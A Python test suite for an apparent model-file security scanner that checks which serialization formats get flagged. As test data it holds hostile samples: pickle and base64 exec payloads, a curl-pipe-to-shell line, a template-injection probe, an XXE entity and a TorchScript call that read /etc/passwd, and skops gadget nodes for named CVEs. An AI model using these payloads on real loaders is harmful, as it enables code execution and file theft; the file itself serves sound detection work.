# ruff: noqa: E501 - one case a line
"""Formats of other frameworks: what runs or reaches out is told, what is ordinary is named and no finding, what cannot be read is missed."""

from __future__ import annotations

import base64
import io
import json
import pickle
import struct
from typing import Any

import numpy as np
import pytest
from modelguard_serialization import limits
from modelguard_serialization.blob import Blob
from modelguard_serialization.detector import _read
from modelguard_serialization.reader import Look
from modelguard_serialization.testing import look_through

from modelguard import Severity

CRITICAL, HIGH, MEDIUM = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM


def field(number: int, content: bytes | str) -> bytes:
    data = content.encode() if isinstance(content, str) else content
    return varint(number << 3 | 2) + varint(len(data)) + data


def varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def found(name: str, data: bytes) -> list[tuple[str, Severity | None]]:
    look, by = look_through(name, data)
    assert by
    assert look.missed == []
    return [(finding.rule, finding.severity) for finding in look.findings]


def in_archive(member: str, data: bytes) -> Look:
    """What is found in a member of an archive."""
    look, _ = look_through("empty.toml", b" ")
    _read(Blob("model.pt", memoryview(data), (member,), None), look)
    return look


class TestSafetensorsMetadata:
    def file(self, metadata: Any) -> bytes:
        header = json.dumps({"__metadata__": metadata, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
        return struct.pack("<Q", len(header)) + header + b"\0\0\0\0"

    @pytest.mark.parametrize(
        ("text", "severity"),
        [
            ("cos\nsystem\n(S'id'\ntR.", HIGH),
            (base64.b64encode(pickle.dumps({"a": print, "padding": "x" * 40}, 4)).decode(), HIGH),
            ("import os; os.system('id')", HIGH),
            ("exec(__import__('base64').b64decode('aWQ='))", HIGH),
            (base64.b64encode(b"import subprocess\nsubprocess.run(['id'])\n").decode(), HIGH),
            ("".join(f"\\x{byte:02x}" for byte in b"import os; os.system('id')"), HIGH),
            ("curl https://x.test/a.sh | sh", HIGH),
            ("#!/bin/sh\nid", HIGH),
            ("{{ ''.__class__.__mro__[1].__subclasses__() }}", HIGH),
            (base64.b64encode(b"\x7fELF" + bytes(60)).decode(), HIGH),
            ("import json\njson.loads(open('x').read())", MEDIUM),
            ("<script>alert(1)</script>", MEDIUM),
        ],
    )
    def test_code_is_told(self, text: str, severity: Severity) -> None:
        assert found("model.safetensors", self.file({"format": "pt", "note": text})) == [("MG0338", severity)]
        assert found("model.safetensors", self.file({text: "x"})) == [("MG0338", severity)]

    @pytest.mark.parametrize(
        "metadata",
        [
            {"format": "pt"},
            {"ss_network_args": '{"conv_dim": "4"}', "ss_sd_model_hash": "a" * 64, "ss_tag_frequency": '{"img": {"import, lambda": 3, "open mouth": 2}}'},
            {"modelspec.title": "A model, from scratch", "modelspec.thumbnail": "data:image/jpeg;base64,/9j/4AAQ" + "A" * 200, "modelspec.hash_sha256": "0x" + "ab" * 32},
            {"license": "https://huggingface.co/x/y/blob/main/LICENSE", "description": "Run it with `python run.py`. Import it from the library, and open it."},
            {"config": json.dumps({"_target_": "torch.nn.Linear"}), "quantization": "Q4_0", "workflow": json.dumps({"nodes": [{"type": "Load"}]})},
        ],
    )  # fmt: skip
    def test_ordinary_metadata_is_no_finding(self, metadata: dict[str, str]) -> None:
        assert found("model.safetensors", self.file(metadata)) == []


class TestSkops:
    def schema(self, *nodes: dict[str, Any]) -> bytes:
        root = {
            "__class__": "Pipeline",
            "__module__": "sklearn.pipeline",
            "__loader__": "ObjectNode",
            "content": list(nodes),
            "protocol": 2,
        }
        return json.dumps(root).encode()

    @pytest.mark.parametrize(
        ("node", "severity"),
        [
            ({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}, CRITICAL),
            ({"__class__": "Mine", "__module__": "mine", "__loader__": "ObjectNode"}, HIGH),
            ({"__class__": "load", "__module__": "numpy", "__loader__": "FunctionNode"}, HIGH),
            ({"__class__": "load_files", "__module__": "sklearn.datasets", "__loader__": "FunctionNode"}, HIGH),
            # https://nvd.nist.gov/vuln/detail/CVE-2025-54412
            ({"__class__": "call", "__module__": "sklearn.linear_model._stochastic_gradient", "__loader__": "OperatorFuncNode"}, CRITICAL),
            # https://nvd.nist.gov/vuln/detail/CVE-2025-54413
            (
                {
                    "__class__": "ndarray",
                    "__module__": "numpy",
                    "__loader__": "MethodNode",
                    "content": {"func": "__init__.__globals__", "obj": {}},
                },
                CRITICAL,
            ),
        ],
    )
    def test_a_type_of_no_known_list_is_told(self, node: dict[str, str], severity: Severity) -> None:
        look = in_archive("schema.json", self.schema(node))
        assert [(finding.rule, finding.severity) for finding in look.findings] == [("MG0334", severity)]

    def test_ordinary_types_are_no_finding(self) -> None:
        nodes = [
            {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic"},
            {"__class__": "ndarray", "__module__": "numpy", "type": "numpy"},
            {"__class__": "sqrt", "__module__": "numpy", "__loader__": "FunctionNode"},
            {"__class__": "dict", "__module__": "builtins"},
            {"__class__": "csr_matrix", "__module__": "scipy.sparse._csr"},
            {"__class__": "XGBClassifier", "__module__": "xgboost.sklearn"},
        ]
        assert in_archive("schema.json", self.schema(*nodes)).findings == []


class TestTorchScript:
    @pytest.mark.parametrize(
        ("source", "told"),
        [
            ("def forward(self, x):\n  torch.save(x, 'marker')\n  return x", [("MG0332", CRITICAL)]),
            ("def forward(self, x):\n  return torch.from_file('/etc/passwd', False, 10)", [("MG0332", HIGH)]),
            ("def forward(self, x):\n  return ops.mine.run(x)", [("MG0333", None)]),
            ("def forward(self, x):\n  return ^PyFunction(1)(x)", [("MG0332", CRITICAL)]),
            ('def forward(self, x):\n  _0 = getattr(self, "0")\n  return (_0).forward(x, )', []),
            ("def forward(self, x):\n  y = ops.prim.max(x)\n  return torch.add(torch.relu(x), ops.torchvision.nms(x, y, 0.5))", []),
        ],
    )
    def test_operators(self, source: str, told: list[tuple[str, Severity | None]]) -> None:
        look = in_archive("model/code/__torch__/m.py", source.encode())
        assert [(finding.rule, finding.severity) for finding in look.findings] == told


def test_python_where_torchscript_lies_is_python() -> None:
    look = in_archive("model/code/__torch__/m.py", b"import os\nos.system('id')\n")
    assert "MG0350" in {finding.rule for finding in look.findings}


def test_extension_types_of_messagepack() -> None:
    array = struct.pack(">Bb", 0xD6, 1) + bytes(4)
    assert found("flax_model.msgpack", b"\x81\xa1k" + array) == []
    assert found("flax_model.msgpack", b"\x81\xa1k" + struct.pack(">BBb", 0xC7, 2, 42) + b"xx") == [("MG0333", MEDIUM)]
    payload = pickle.dumps(print, 4)
    assert found("flax_model.msgpack", b"\x81\xa1k\xc4" + bytes([len(payload)]) + payload) == [("MG0338", HIGH)]
    look, _ = look_through("flax_model.msgpack", b"\x81\xa1k\xc4\xff")
    assert look.missed


@pytest.mark.parametrize(
    ("name", "data", "told"),
    [
        ("m.mlmodel", b"\x08\x04" + field(2, b"") + field(500, field(1, field(1, "l") + field(140, b""))), []),
        ("m.mlmodel", b"\x08\x04" + field(2, b"") + field(500, field(1, field(1, "l") + field(500, field(10, "Mine")))), [("MG0333", None)]),
        ("m.bin", b"\x08\x04" + field(2, b"") + field(555, field(10, "Mine")), [("MG0333", None)]),
        ("m.mlmodel", b"\x08\x04" + field(2, b"") + field(202, field(1, b"\x08\x04" + field(2, b"") + field(555, field(10, "Mine")))), [("MG0333", None)]),
        ("m.mlmodel", b"\x08\x04" + field(2, b"") + field(556, field(1, field(1, field(2, "../other.mlmodelc")))), [("MG0336", CRITICAL)]),
        ("m.pdmodel", field(1, b"\x08\x00\x10\x00" + field(4, field(3, "matmul_v2"))), []),
        ("m.pdmodel", field(1, b"\x08\x00\x10\x00" + field(4, field(3, "py_func"))), [("MG0332", CRITICAL)]),
        # https://github.com/BVLC/caffe/blob/master/include/caffe/layers/python_layer.hpp: imports python_param.module
        ("m.caffemodel", field(1, "net") + field(100, field(1, "a") + field(2, "Convolution")), []),
        ("m.caffemodel", field(100, field(1, "a") + field(2, "Python") + field(130, field(1, "evil") + field(2, "L"))), [("MG0332", CRITICAL)]),
        ("m.prototxt", b'layer { name: "a" type: "Python" python_param { module: "evil" layer: "L" } }', [("MG0332", CRITICAL)]),
        ("m.prototxt", b'layer { name: "a" type: "ReLU" }', []),
        ("m.xml", b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="a" type="Add" version="opset1"/></layers></net>', []),
        ("m.xml", b'<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" type="Mine" version="extension"/></layers></net>', [("MG0333", None)]),
        ("m.pmml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML version="4.4">&e;</PMML>', [("MG0336", CRITICAL)]),
        ("m.pmml", b'<?xml version="1.0"?><PMML version="4.4"><TreeModel/></PMML>', []),
        ("m.cbm", b"CBM1" + bytes([16, 0, 0, 0]) + bytes(16), []),
        ("m.ubj", b"{L\0\0\0\0\0\0\0\x07learner{i\1a[$d#i\2" + bytes(8) + b"i\1bSi\2xy}}", []),
        ("m.mat", b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + bytes([14, 0, 0, 0, 3, 0, 0, 0]) + bytes(8), []),
        ("model.json", b'{"learner":{"attributes":{},"feature_names":[]},"version":[3,2,0]}', []),
    ],
)  # fmt: skip
def test_what_is_found_in_each(name: str, data: bytes, told: list[tuple[str, Severity | None]]) -> None:
    assert found(name, data) == told


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("m.plan", b"ftrt" + bytes(40)),
        ("m.engine", struct.pack("<i", 2) + b"{}ftrt" + bytes(40)),
        ("m.ort", bytes(4) + b"ORTM" + bytes(40)),
        ("m.mnn", bytes(40)),
        ("m.pte", bytes(4) + b"ET12" + bytes(40)),
        ("m.cbm", b"CBM1" + bytes([17, 0, 0, 0]) + bytes(16)),
        ("m.ubj", b"{L\0\0\0\0\0\0\0\x07learner{}}import os"),
        ("m.mat", b"MATLAB 5.0 MAT-file".ljust(124) + b"\x00\x01IM" + b"import os"),
        ("m.param", b"7767517\n\xff\xfe"),
        # https://nvd.nist.gov/vuln/detail/CVE-2024-27322
        ("m.rds", b"X\n\0\0\0\3\0\4\3\1\0\3\5\0"),
        ("m.RData", b"RDX3\nX\n\0\0\0\3"),
    ],
)
def test_what_cannot_be_read_is_missed(name: str, data: bytes) -> None:
    look, _ = look_through(name, data)
    assert look.missed


def test_compiled_engines_are_told() -> None:
    look, _ = look_through("m.plan", b"ftrt" + bytes(40))
    assert [(finding.rule, finding.severity) for finding in look.findings] == [("MG0337", None)]


@pytest.mark.parametrize("dtype", ["|u1", "<u2", "<u4", "<u8", "<i8", "<f4", "|b1", "<c16", "<M8[ns]"])
def test_arrays_of_every_ordinary_dtype_are_read(dtype: str) -> None:
    data = io.BytesIO()
    np.save(data, np.zeros(3, dtype))
    assert found("array.npy", data.getvalue()) == []


@pytest.mark.parametrize(
    ("name", "begins"),
    [("config.cfg", b"[nlp]\n"), ("config.pbtxt", b"name: 'm'\n"), ("Modelfile", b"FROM m\n"), ("net.prototxt", b"layer { }\n")],
)
def test_what_is_too_long_to_be_read_whole_is_not_looked_at(name: str, begins: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "DOCUMENT", 100)
    assert not look_through(name, begins + b"#" * 50)[0].missed
    assert look_through(name, begins + b"#" * 100)[0].missed
